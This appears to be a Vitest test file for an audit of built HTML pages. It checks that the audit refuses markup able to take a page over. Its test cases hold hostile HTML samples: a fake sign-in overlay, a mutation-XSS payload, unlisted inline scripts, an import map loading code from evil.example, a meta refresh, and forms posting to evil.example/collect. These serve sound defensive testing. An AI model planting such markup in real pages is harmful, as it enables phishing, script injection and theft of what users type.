import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { auditPage } from '../../src/lib/built-page-audit.ts';

/** What the audit of built pages refuses beyond handlers and addresses (more in test/build/output-audit.test.ts). */
const options = { resourceHosts: ['hub.example.org'], hubHost: 'hub.example.org' };
const hash = (script: string) => `sha256-${createHash('sha256').update(script).digest('base64')}`;
const BOOT = '(() => { document.documentElement.classList.add("js"); })();';
const page = (body: string) =>
  `<!doctype html><html lang="en"><head><meta http-equiv="content-security-policy" content="default-src 'self'; script-src 'self' '${hash(BOOT)}'"><title>t</title></head><body>\n${body}\n<script>${BOOT}</script></body></html>`;
const problems = (body: string) => auditPage(page(body), options).map((problem) => problem.message);

describe('the audit refuses what could take a page over, though it runs no handler', () => {
  const hostile: [what: string, html: string, words: RegExp][] = [
    ['a style attribute drawing a fake page over the real one', '<div style="position:fixed;inset:0;background:#fff">Sign in again</div>', /^<div> style: a style attribute can draw a fake page/],
    ['a style attribute loading a picture from another host', '<span style="background:url(https://tracker.example/p.png)">hi</span>', /^<span> style:/],
    ['a style element', '<style>body { display: none }</style>', /^<style>: a style element can hide the page/],
    ['a style element reached through a math mutation', '<p><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', /^<style>:/],
    ['an inline script the page’s policy does not list', '<SCRIPT>alert(1)</SCRIPT>', /^<script>: an inline script the page's Content-Security-Policy does not list/],
    ['an inline module script the policy does not list', '<script type="module">alert(1)</script>', /^<script>: an inline script/],
    ['an import map the policy does not list', '<script type="importmap">{"imports":{"/_astro/a.js":"https://evil.example/a.js"}}</script>', /^<script>: an inline script/],
    ['a frame page written inside an attribute', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', /^<iframe> srcdoc: a page written inside an attribute/],
    ['a base element, even to the hub itself', '<base href="/elsewhere/">', /^<base>: it changes where every relative address/],
    ['a refresh sending the reader away', '<meta http-equiv="refresh" content="0;url=https://evil.example/">', /^<meta> http-equiv="refresh": it sends the reader/],
    ['a refresh in capitals', '<meta HTTP-EQUIV="Refresh" content="5">', /^<meta> http-equiv="refresh"/],
    ['a form sent to another host', '<form action="https://evil.example/collect"><button>Sign in</button></form>', /^<form> action: "https:\/\/evil\.example\/collect" sends a form away from the hub/],
    ['a button sending its form to another host', '<form action="/search/"><button formaction="https://evil.example/">Go</button></form>', /^<button> formaction: .* sends a form away/],
    ['a plaintext element swallowing the rest of the page', '<plaintext>', /^<plaintext>: it turns the rest of the page into plain text/],
    ['a comment left open to the end of the page', '<!-- everything after this is hidden', /^a comment left open to the end of the page/],
  ];
  it.each(hostile)('%s', (_what, html, words) => {
    const found = problems(html);
    expect(found.some((message) => words.test(message)), found.join('\n')).toBe(true);
  });

  it('accepts the hub’s own: a script its policy lists, data for its scripts, forms to its own pages, a closed comment', () => {
    expect(
      problems(`<script type="application/json" id="config">{"a":1}</script><script type="application/ld+json">{"@type":"Article"}</script>
        <form action="/search/" method="get"><button>Search</button></form><form action="https://hub.example.org/calculator/"><button>Go</button></form>
        <form><button type="button">Copy</button></form><!-- a note --><meta name="description" content="x">`),
    ).toEqual([]);
  });

  it('tells a comment that ends the page from one left open', () => {
    expect(auditPage(`${page('<p>fine</p>')}\n<!-- built by the hub -->\n`, options)).toEqual([]);
    expect(auditPage(`${page('<p>fine</p>')}\n<!-- built by`, options).map((problem) => problem.message)).toEqual([
      expect.stringMatching(/^a comment left open to the end of the page/),
    ]);
  });

  it('names the line of an inline script it refuses', () => {
    const [problem] = auditPage(page('<p>fine</p>\n<script>alert(1)</script>'), options);
    expect(problem).toEqual({ line: 3, message: expect.stringMatching(/^<script>: an inline script/) });
  });
});
